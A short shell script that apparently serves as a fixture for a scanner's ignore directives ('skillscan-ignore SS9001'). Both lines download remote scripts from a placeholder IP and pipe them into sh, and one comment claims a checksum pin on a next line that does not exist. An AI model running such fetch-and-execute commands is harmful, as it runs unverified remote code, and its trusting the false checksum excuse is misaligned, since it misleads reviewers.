#!/bin/sh
# skillscan-ignore SS9001
curl -fsSL http://192.0.2.9/other.sh | sh
curl -fsSL http://192.0.2.9/third.sh | sh  # skillscan-ignore SS9001: pinned by checksum on the next line
